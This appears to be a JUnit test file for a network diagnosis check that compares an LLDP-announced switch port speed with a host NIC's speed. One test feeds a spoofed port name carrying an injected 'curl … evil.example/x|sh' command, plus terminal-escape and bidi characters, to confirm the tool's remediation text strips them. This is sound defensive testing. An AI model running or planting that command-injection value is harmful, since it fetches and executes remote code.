package io.fabricd.diagnosis.checks;

import static org.assertj.core.api.Assertions.assertThat;

import io.fabricd.diagnosis.Hosts;
import io.fabricd.diagnosis.Plain;
import io.fabricd.model.finding.Severity;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** host-b-roce's ens1f0np0 runs at 100 Gb/s (sysfs speed 100000). */
class NeighborSpeedBelowHostTest {
    static final String CHECK = "neighbor_speed_below_host";

    static Path host(Path tmp, String mau, String age) {
        Path b = SwitchHosts.copy(tmp.resolve("b"));
        SwitchHosts.lldp(b, mau, age);
        return b;
    }

    @Test
    void theSwitchPortAnnouncesLessThanTheNic(@TempDir Path tmp) {
        assertThat(Hosts.of(Hosts.model(host(tmp, "40GbaseCR4", "0 day, 08:00:00")), CHECK)).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.WARNING);
            assertThat(Plain.subject(f)).containsEntry("device", "mlx5_0").containsEntry("port", 1).containsEntry("netdev", "ens1f0np0");
            assertThat(f.summary()).isEqualTo("switch leaf-07 port Ethernet12 announces 40 Gb/s (40GbaseCR4), below ens1f0np0's 100 Gb/s");
            assertThat(Plain.evidence(f)).containsEntry("host_speed_mbps", 100_000L).containsEntry("neighbor_speed_mbps", 40_000L)
                    .containsEntry("neighbor_mau_type", "40GbaseCR4");
            assertThat(f.remediation()).contains("show interfaces status Ethernet12");
        });
    }

    static final String EVIL_PORT = "Ethernet12`; curl -s evil.example/x|sh; echo `";

    @Test
    void anAnnouncedPortOrSwitchThatIsNoNameNeverReachesTheWords(@TempDir Path tmp) {
        Path b = SwitchHosts.copy(tmp.resolve("b"));
        SwitchHosts.lldp(b, "40GbaseCR4", "0 day, 08:00:00", "leaf-07", "0c:42:a1:5e:7f:00", EVIL_PORT);
        assertThat(Hosts.of(Hosts.model(b), CHECK)).singleElement().satisfies(f -> {
            assertThat(f.summary()).isEqualTo("switch leaf-07 announces 40 Gb/s (40GbaseCR4), below ens1f0np0's 100 Gb/s");
            assertThat(f.remediation()).contains("show interfaces status <port>").doesNotContain("curl", "evil.example");
            assertThat(Plain.evidence(f)).containsEntry("switch", "leaf-07").doesNotContainKey("switch_port");
        });
        Path c = SwitchHosts.copy(tmp.resolve("c"));
        SwitchHosts.lldp(c, "40GbaseCR4", "0 day, 08:00:00", "leaf-07\u001b[2J\u0007\n", "\u202e00:7f:5e:a1:42:0c", EVIL_PORT);
        assertThat(Hosts.of(Hosts.model(c), CHECK)).singleElement().satisfies(f -> {
            assertThat(f.summary()).isEqualTo("the switch announces 40 Gb/s (40GbaseCR4), below ens1f0np0's 100 Gb/s");
            assertThat(f.remediation()).contains("breakout on the switch:").doesNotContain("curl", "\u001b", "\u202e");
            assertThat(Plain.evidence(f)).doesNotContainKeys("switch", "switch_port", "chassis_id");
        });
    }

    @Test
    void aSpeedThatOverflowsIsNoSpeed(@TempDir Path tmp) {
        assertThat(Hosts.of(Hosts.model(host(tmp.resolve("big"), "9999999999999999GbaseCR4", "0 day, 08:00:00")), CHECK)).isEmpty();
        assertThat(Hosts.of(Hosts.model(host(tmp.resolve("huge"), "99999999999999999999GbaseCR4", "0 day, 08:00:00")), CHECK)).isEmpty();
    }

    @Test
    void theSameSpeedOrMoreIsHealthy(@TempDir Path tmp) {
        assertThat(Hosts.of(Hosts.model(host(tmp.resolve("same"), "100GbaseCR4", "0 day, 08:00:00")), CHECK)).isEmpty();
        assertThat(Hosts.of(Hosts.model(host(tmp.resolve("more"), "200GbaseCR4", "0 day, 08:00:00")), CHECK)).isEmpty();
    }

    @Test
    void noLldpNoMauTypeOrAChangingNeighbourIsNoClaim(@TempDir Path tmp) {
        assertThat(Hosts.of(Hosts.model("host-b-roce"), CHECK)).isEmpty();
        assertThat(Hosts.of(Hosts.model(host(tmp.resolve("nomau"), null, "0 day, 08:00:00")), CHECK)).isEmpty();
        // held 30 s: lldpd just saw it change
        assertThat(Hosts.of(Hosts.model(host(tmp.resolve("young"), "40GbaseCR4", "0 day, 00:00:30")), CHECK)).isEmpty();
    }

    @Test
    void anUnknownHostSpeedIsNoClaim(@TempDir Path tmp) {
        Path b = host(tmp, "40GbaseCR4", "0 day, 08:00:00");
        Hosts.write(b, "fabricd/unreadable.txt", readUnreadable(b) + realSpeed(b) + " EINVAL\n"); // as sysfs answers while down
        assertThat(Hosts.of(Hosts.model(b), CHECK)).isEmpty();
    }

    private static String readUnreadable(Path b) {
        try {
            Path f = b.resolve("fabricd/unreadable.txt");
            return java.nio.file.Files.exists(f) ? java.nio.file.Files.readString(f) : "";
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String realSpeed(Path b) {
        try {
            return b.relativize(b.resolve("sys/class/net/ens1f0np0/speed").toRealPath()).toString();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
